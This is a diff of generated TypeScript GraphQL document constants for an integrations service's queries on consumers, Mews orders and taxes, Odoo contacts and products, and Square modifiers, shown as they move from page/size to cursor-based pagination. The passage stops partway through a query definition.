-export const ServiceDemoConsumerDocument = {"__meta__":{"hash":"b3e816803dda1ecf3a9193f01447369cf81548a59189d0d67981e13f905a315e"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ServiceDemoConsumer"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"connections"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"integrationId"}},{"kind":"Field","name":{"kind":"Name","value":"api"}},{"kind":"Field","name":{"kind":"Name","value":"status"}}]}},{"kind":"Field","name":{"kind":"Name","value":"invoicing"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"taxes"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"size"},"value":{"kind":"IntValue","value":"3"}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"page"}},{"kind":"Field","name":{"kind":"Name","value":"size"}},{"kind":"Field","name":{"kind":"Name","value":"items"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"rate"}},{"kind":"Field","name":{"kind":"Name","value":"type"}}]}}]}}]}}]}}]}}]} as unknown as DocumentNode<ServiceDemoConsumerQuery, ServiceDemoConsumerQueryVariables>;
+export const ServiceDemoConsumerDocument = {"__meta__":{"hash":"89bbf6a30cc46867e10d3d21750b660c519c43f766e0b2a96dca6f12699faa7c"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"ServiceDemoConsumer"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"connections"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"integrationId"}},{"kind":"Field","name":{"kind":"Name","value":"api"}},{"kind":"Field","name":{"kind":"Name","value":"status"}}]}},{"kind":"Field","name":{"kind":"Name","value":"invoicing"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"taxes"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"first"},"value":{"kind":"IntValue","value":"3"}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"totalCount"}},{"kind":"Field","name":{"kind":"Name","value":"pageInfo"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"hasNextPage"}}]}},{"kind":"Field","name":{"kind":"Name","value":"nodes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"rate"}},{"kind":"Field","name":{"kind":"Name","value":"type"}}]}}]}}]}}]}}]}}]} as unknown as DocumentNode<ServiceDemoConsumerQuery, ServiceDemoConsumerQueryVariables>;
 export const TrustedIntegrationsDocument = {"__meta__":{"hash":"6bc5259c01c0fb245e01303ac45b310f725e572c0efbebc8b8610014f53c2577"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"TrustedIntegrations"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"integrations"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"integrationId"}},{"kind":"Field","name":{"kind":"Name","value":"name"}}]}}]}}]} as unknown as DocumentNode<TrustedIntegrationsQuery, TrustedIntegrationsQueryVariables>;
-export const TokConsumersDocument = {"__meta__":{"hash":"c5282e846447370dfb69f771f88d776b3b3ae318ec5a53d3009494faf3428853"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"TokConsumers"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumers"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}}]}}]} as unknown as DocumentNode<TokConsumersQuery, TokConsumersQueryVariables>;
-export const MewsOrdersDocument = {"__meta__":{"hash":"6421ec6e11c55ce2522aa49a064901d77017a091a74d618c573516f10826e3b5"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"MewsOrders"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"page"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Int"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"size"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Int"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"state"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"PmsOrderState"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"from"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Date"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"to"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Date"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"location"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"String"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"pms"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"orders"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"page"},"value":{"kind":"Variable","name":{"kind":"Name","value":"page"}}},{"kind":"Argument","name":{"kind":"Name","value":"size"},"value":{"kind":"Variable","name":{"kind":"Name","value":"size"}}},{"kind":"Argument","name":{"kind":"Name","value":"state"},"value":{"kind":"Variable","name":{"kind":"Name","value":"state"}}},{"kind":"Argument","name":{"kind":"Name","value":"dateFrom"},"value":{"kind":"Variable","name":{"kind":"Name","value":"from"}}},{"kind":"Argument","name":{"kind":"Name","value":"dateTo"},"value":{"kind":"Variable","name":{"kind":"Name","value":"to"}}},{"kind":"Argument","name":{"kind":"Name","value":"locationId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"location"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"page"}},{"kind":"Field","name":{"kind":"Name","value":"size"}},{"kind":"Field","name":{"kind":"Name","value":"items"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"creationDate"}},{"kind":"Field","name":{"kind":"Name","value":"closingDate"}},{"kind":"Field","name":{"kind":"Name","value":"serviceDate"}},{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"taxAmount"}},{"kind":"Field","name":{"kind":"Name","value":"orderNumber"}},{"kind":"Field","name":{"kind":"Name","value":"totalDiscount"}},{"kind":"Field","name":{"kind":"Name","value":"currency"}},{"kind":"Field","name":{"kind":"Name","value":"country"}},{"kind":"Field","name":{"kind":"Name","value":"customerId"}},{"kind":"Field","name":{"kind":"Name","value":"locationId"}},{"kind":"Field","name":{"kind":"Name","value":"guests"}},{"kind":"Field","name":{"kind":"Name","value":"serviceId"}},{"kind":"Field","name":{"kind":"Name","value":"mode"}},{"kind":"Field","name":{"kind":"Name","value":"source"}},{"kind":"Field","name":{"kind":"Name","value":"taxes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"rate"}},{"kind":"Field","name":{"kind":"Name","value":"amount"}},{"kind":"Field","name":{"kind":"Name","value":"taxId"}},{"kind":"Field","name":{"kind":"Name","value":"taxRate"}},{"kind":"Field","name":{"kind":"Name","value":"taxAmount"}},{"kind":"Field","name":{"kind":"Name","value":"total"}}]}},{"kind":"Field","name":{"kind":"Name","value":"items"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"quantity"}},{"kind":"Field","name":{"kind":"Name","value":"unitPrice"}},{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"taxAmount"}},{"kind":"Field","name":{"kind":"Name","value":"type"}},{"kind":"Field","name":{"kind":"Name","value":"taxRate"}},{"kind":"Field","name":{"kind":"Name","value":"taxId"}},{"kind":"Field","name":{"kind":"Name","value":"description"}},{"kind":"Field","name":{"kind":"Name","value":"productId"}},{"kind":"Field","name":{"kind":"Name","value":"accountingCategoryId"}},{"kind":"Field","name":{"kind":"Name","value":"discounts"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"amount"}},{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"type"}}]}}]}},{"kind":"Field","name":{"kind":"Name","value":"reservation"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"startDate"}},{"kind":"Field","name":{"kind":"Name","value":"endDate"}},{"kind":"Field","name":{"kind":"Name","value":"creationDate"}},{"kind":"Field","name":{"kind":"Name","value":"resourceName"}},{"kind":"Field","name":{"kind":"Name","value":"resourceIdentifier"}},{"kind":"Field","name":{"kind":"Name","value":"resourceId"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}}]}}]}},{"kind":"Field","name":{"kind":"Name","value":"bills"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"invoiceNumber"}},{"kind":"Field","name":{"kind":"Name","value":"creationDate"}},{"kind":"Field","name":{"kind":"Name","value":"closingDate"}},{"kind":"Field","name":{"kind":"Name","value":"partners"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"type"}},{"kind":"Field","name":{"kind":"Name","value":"companyName"}},{"kind":"Field","name":{"kind":"Name","value":"firstName"}},{"kind":"Field","name":{"kind":"Name","value":"lastName"}},{"kind":"Field","name":{"kind":"Name","value":"address"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"street"}},{"kind":"Field","name":{"kind":"Name","value":"city"}},{"kind":"Field","name":{"kind":"Name","value":"postalCode"}},{"kind":"Field","name":{"kind":"Name","value":"country"}}]}}]}}]}}]}}]}}]}}]}}]}}]} as unknown as DocumentNode<MewsOrdersQuery, MewsOrdersQueryVariables>;
-export const MewsTaxesFailureDocument = {"__meta__":{"hash":"7ccc35f0a6e476b5b56b8a4be167661d96df6206d55e3e269084e030bcab06fa"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"MewsTaxesFailure"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"pms"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"taxes"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"size"},"value":{"kind":"IntValue","value":"1"}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"total"}}]}}]}}]}}]}}]} as unknown as DocumentNode<MewsTaxesFailureQuery, MewsTaxesFailureQueryVariables>;
-export const MewsTaxesDocument = {"__meta__":{"hash":"7eaf64a2d6938dfc1b67c9f43fed167af5e86a52b47f822deca16cffe5a0852b"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"MewsTaxes"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"page"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Int"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"size"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Int"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"pms"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"taxes"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"page"},"value":{"kind":"Variable","name":{"kind":"Name","value":"page"}}},{"kind":"Argument","name":{"kind":"Name","value":"size"},"value":{"kind":"Variable","name":{"kind":"Name","value":"size"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"page"}},{"kind":"Field","name":{"kind":"Name","value":"size"}},{"kind":"Field","name":{"kind":"Name","value":"items"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"label"}},{"kind":"Field","name":{"kind":"Name","value":"rate"}},{"kind":"Field","name":{"kind":"Name","value":"isCityTax"}},{"kind":"Field","name":{"kind":"Name","value":"raw"}}]}}]}}]}}]}}]}}]} as unknown as DocumentNode<MewsTaxesQuery, MewsTaxesQueryVariables>;
-export const OdooThreeContactsDocument = {"__meta__":{"hash":"349ce3ad7fe59d1ad0c8469d29624ed20bdd044a60dc3258576cd6d0aad02eca"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"OdooThreeContacts"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"invoicing"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","alias":{"kind":"Name","value":"a"},"name":{"kind":"Name","value":"contact"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"StringValue","value":"10","block":false}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"companyName"}},{"kind":"Field","name":{"kind":"Name","value":"addresses"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"addressType"}}]}}]}},{"kind":"Field","alias":{"kind":"Name","value":"b"},"name":{"kind":"Name","value":"contact"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"StringValue","value":"11","block":false}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"firstName"}},{"kind":"Field","name":{"kind":"Name","value":"companyId"}}]}},{"kind":"Field","alias":{"kind":"Name","value":"c"},"name":{"kind":"Name","value":"contact"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"StringValue","value":"14","block":false}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"isSupplier"}}]}}]}}]}}]}}]} as unknown as DocumentNode<OdooThreeContactsQuery, OdooThreeContactsQueryVariables>;
-export const OdooCreateProductDocument = {"__meta__":{"hash":"e87335e4130fb8e620c9b9c926e8acfcb048bad667051499503100bc9d164443"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"mutation","name":{"kind":"Name","value":"OdooCreateProduct"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"input"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"CreateProductInput"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"createProduct"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"consumerId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}},{"kind":"Argument","name":{"kind":"Name","value":"input"},"value":{"kind":"Variable","name":{"kind":"Name","value":"input"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"unitPrice"}},{"kind":"Field","name":{"kind":"Name","value":"taxId"}},{"kind":"Field","name":{"kind":"Name","value":"code"}},{"kind":"Field","name":{"kind":"Name","value":"unit"}},{"kind":"Field","name":{"kind":"Name","value":"category"}},{"kind":"Field","name":{"kind":"Name","value":"currency"}},{"kind":"Field","name":{"kind":"Name","value":"description"}},{"kind":"Field","name":{"kind":"Name","value":"cost"}},{"kind":"Field","name":{"kind":"Name","value":"availableQuantity"}}]}}]}}]} as unknown as DocumentNode<OdooCreateProductMutation, OdooCreateProductMutationVariables>;
-export const SquareModifiersErrorDocument = {"__meta__":{"hash":"c905c7d49ac1db86703096af13d881ea75089c164abe38f67a2d98cb89cde82f"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"SquareModifiersError"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"pos"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"modifiers"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"total"}}]}}]}}]}}]}}]} as unknown as DocumentNode<SquareModifiersErrorQuery, SquareModifiersErrorQueryVariables>;
-export const SquareModifiersDocument = {"__meta__":{"hash":"06a7c950e2c60af16e0d7146fb9d70e37a0801fd1e01fb9377b71987675bb995"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"SquareModifiers"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"page"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Int"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"size"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Int"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"location"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"String"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"pos"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"modifiers"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"page"},"value":{"kind":"Variable","name":{"kind":"Name","value":"page"}}},{"kind":"Argument","name":{"kind":"Name","value":"size"},"value":{"kind":"Variable","name":{"kind":"Name","value":"size"}}},{"kind":"Argument","name":{"kind":"Name","value":"locationId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"location"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"items"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"options"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"name"}},{"kind":"Field","name":{"kind":"Name","value":"price"}}]}},{"kind":"Field","name":{"kind":"Name","value":"raw"}}]}},{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"page"}},{"kind":"Field","name":{"kind":"Name","value":"size"}}]}}]}}]}}]}}]} as unknown as DocumentNode<SquareModifiersQuery, SquareModifiersQueryVariables>;
+export const TokConsumersDocument = {"__meta__":{"hash":"13f24e66a20e0fb97da1fc40bdfcf4d39643f367c13fd2c4bd08fcf87760f2d5"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"TokConsumers"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumers"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"first"},"value":{"kind":"IntValue","value":"50"}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"nodes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}}]}},{"kind":"Field","name":{"kind":"Name","value":"totalCount"}}]}}]}}]} as unknown as DocumentNode<TokConsumersQuery, TokConsumersQueryVariables>;
+export const MewsOrdersDocument = {"__meta__":{"hash":"9bcd46cf3bc9b12fd9581b6e215534a876f3c72854ec3e5d62fe785389229308"},"kind":"Document","definitions":[{"kind":"OperationDefinition","operation":"query","name":{"kind":"Name","value":"MewsOrders"},"variableDefinitions":[{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"id"}},"type":{"kind":"NonNullType","type":{"kind":"NamedType","name":{"kind":"Name","value":"ID"}}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"first"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Int"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"after"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"String"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"state"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"PmsOrderState"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"from"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Date"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"to"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"Date"}}},{"kind":"VariableDefinition","variable":{"kind":"Variable","name":{"kind":"Name","value":"location"}},"type":{"kind":"NamedType","name":{"kind":"Name","value":"String"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"consumer"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"id"},"value":{"kind":"Variable","name":{"kind":"Name","value":"id"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"pms"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"orders"},"arguments":[{"kind":"Argument","name":{"kind":"Name","value":"first"},"value":{"kind":"Variable","name":{"kind":"Name","value":"first"}}},{"kind":"Argument","name":{"kind":"Name","value":"after"},"value":{"kind":"Variable","name":{"kind":"Name","value":"after"}}},{"kind":"Argument","name":{"kind":"Name","value":"state"},"value":{"kind":"Variable","name":{"kind":"Name","value":"state"}}},{"kind":"Argument","name":{"kind":"Name","value":"dateFrom"},"value":{"kind":"Variable","name":{"kind":"Name","value":"from"}}},{"kind":"Argument","name":{"kind":"Name","value":"dateTo"},"value":{"kind":"Variable","name":{"kind":"Name","value":"to"}}},{"kind":"Argument","name":{"kind":"Name","value":"locationId"},"value":{"kind":"Variable","name":{"kind":"Name","value":"location"}}}],"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"totalCount"}},{"kind":"Field","name":{"kind":"Name","value":"pageInfo"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"hasNextPage"}}]}},{"kind":"Field","name":{"kind":"Name","value":"nodes"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"id"}},{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"sourceRef"},"selectionSet":{"kind":"SelectionSet","selections":[{"kind":"Field","name":{"kind":"Name","value":"remoteId"}},{"kind":"Field","name":{"kind":"Name","value":"model"}}]}},{"kind":"Field","name":{"kind":"Name","value":"creationDate"}},{"kind":"Field","name":{"kind":"Name","value":"closingDate"}},{"kind":"Field","name":{"kind":"Name","value":"serviceDate"}},{"kind":"Field","name":{"kind":"Name","value":"total"}},{"kind":"Field","name":{"kind":"Name","value":"taxAmount"}},{"kind":"Field","name":{"kind":"Name","value":"orderNumber"}},{"kind":"Field","name":{"kind":"Name","value":"totalDiscount"}},{"kind":"Field","name":{"kind":"Name","value":"currency"}},{"kind":"Field","name":{"kind":"Name","value":"country"}},{"kind":"Field","name":{"kind":"Name","value":"customerId"}},{"kind":"Field","name":{"kind":"Name","value":"locationId"}},{"kind":"Field","name":{"kind":"Name","value":"guests"}},{"kind":"Field","name":{"kind":"Name","value":"serviceId"}},{"kind":"Field","name":{"kind":"Name","value":"mode"}},{"kind":"Field","name":{"kind":"Name","value":"source"}},{"kind":"Field","name":{"kind":"Name","value":"taxes"